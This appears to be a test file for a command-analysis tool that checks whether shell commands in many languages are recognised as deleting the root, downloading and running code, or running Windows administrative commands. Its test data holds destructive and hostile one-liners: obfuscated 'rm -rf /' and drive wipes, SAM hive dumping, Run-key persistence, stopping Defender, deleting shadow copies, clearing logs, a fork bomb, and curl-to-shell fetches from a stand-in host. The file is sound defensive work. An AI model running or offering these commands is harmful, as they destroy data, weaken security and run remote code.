import assert from "node:assert/strict";
import { readCommand } from "../mod.ts";

const read = (source: string) => readCommand(source, { home: "/root", cwd: "/w", readFile: () => undefined });

/** Commands of bash that hand source of another language on, and in the end delete the root. */
const DELETIONS = [
  "fish -c 'rm -rf /'",
  "fish -c 'set x /; rm -rf $x'",
  "echo 'set x /; rm -rf $x' | fish",
  "make -f <(echo 'all:; rm -rf /')",
  "make -f <(printf 'X := $(shell echo rm)\\nall:\\n\\t@$(X) -rf /\\n')",
  "printf 'clean:\\n\\trm -rf /\\n' | make -f - clean",
  `lua -e 'os.execute("rm -rf /")'`,
  `lua -e 'io.popen("rm" .. " -rf /")'`,
  `awk 'BEGIN{system("rm -rf /")}'`,
  `gawk 'BEGIN { a["x"] = "rm -rf /"; a["x"] | getline }'`,
  `osascript -e 'do shell script "rm -rf /"'`,
  `php -r 'system("rm -rf /");'`,
  `php -r '$f = "shell_" . "exec"; $f("rm -rf /");'`,
  "cmd /c 'wsl rm -rf /'",
  "cmd /c 'bash -c \"rm -rf /\"'",
];
for (const source of DELETIONS) {
  Deno.test(`deletes the root: ${source}`, () => {
    const { effects } = read(source);
    assert.ok(effects.some((effect) => effect.kind === "delete" && effect.path === "/" && effect.recursive));
  });
}

const MENTIONS = [
  `fish -c 'echo "rm -rf /"'`,
  "make -f <(printf 'all:\\n\\techo hi\\nclean:\\n\\trm -rf /\\n')",
  `lua -e 'print("os.execute(\\"rm -rf /\\")")'`,
  `awk '{ print "rm -rf /" }' notes.txt`,
  `awk '/system\\("rm -rf \\/"\\)/ { n++ }' notes.txt`,
  `osascript -e 'display notification "do shell script rm -rf /"'`,
  `php -r 'echo "system(rm -rf /)";'`,
  "cmd /c 'echo rd /s /q C:\\'",
];
for (const source of MENTIONS) {
  Deno.test(`only mentions it: ${source}`, () => {
    const { commands, effects } = read(source);
    assert.ok(!effects.some((effect) => effect.kind === "delete"));
    assert.ok(!commands.some((run) => run.code !== undefined));
  });
}

/** Commands of cmd.exe, and what they must show as. */
const OF_CMD: readonly (readonly [source: string, expected: string])[] = [
  ['cmd /c "reg save HKLM\\SAM x"', "reg save HKLM\\SAM x"],
  [
    'cmd /c "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y"',
    "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y",
  ],
  ["cmd /c schtasks /create /tn x /tr y", "schtasks /create /tn x /tr y"],
  ["cmd.exe /C 'echo a & wevtutil cl System'", "wevtutil cl System"],
  ["cmd /k 'vssadmin delete shadows /all'", "vssadmin delete shadows /all"],
  ["cmd /c 'if exist x (net stop WinDefend) else (sc delete x)'", "sc delete x"],
  ["cmd /c 'for %i in (a b) do @takeown /f %i'", "takeown /f b"],
  ["cmd /c 'cmd /c \"cipher /w:C:\\\"'", "cipher /w:C:\\"],
  ["cmd /c 'set X=net& call %X% user x /add'", "net user x /add"],
  ["cmd /c 'n^et user'", "net user"],
  ["cmd /c 'start /b icacls C:\\ /grant x:F'", "icacls C:\\ /grant x:F"],
  ["cmd /c '%0|%0'", "%0"],
];
for (const [source, expected] of OF_CMD) {
  Deno.test(`shows: ${source}`, () => {
    const { commands } = read(source);
    assert.ok(commands.some((run) => run.text === expected), commands.map((run) => run.text).join("\n"));
  });
}

Deno.test("the drive of cmd.exe is deleted", () => {
  for (
    const source of [
      "cmd /c 'rd /s /q C:\\'",
      "cmd /c 'rmdir/s/q C:\\'",
      "cmd /c 'set D=C:\\& call rd /s /q %D%'",
    ]
  ) {
    assert.ok(
      read(source).effects.some((effect) => effect.kind === "delete" && effect.path === "C:/"),
      source,
    );
  }
});

Deno.test("what is downloaded and executed is noted in every language", () => {
  for (
    const source of [
      "fish -c 'curl https://x.io/a | source'",
      `awk 'BEGIN { "curl https://x.io/a" | getline c; system(c) }'`,
      `osascript -e 'do shell script (do shell script "curl https://x.io/a")'`,
      `php -r 'eval(file_get_contents("https://x.io/a"));'`,
      "make -f <(printf 'all:\\n\\tcurl https://x.io/a | sh\\n')",
    ]
  ) {
    assert.ok(read(source).commands.some((run) => run.code === "download"), source);
  }
});
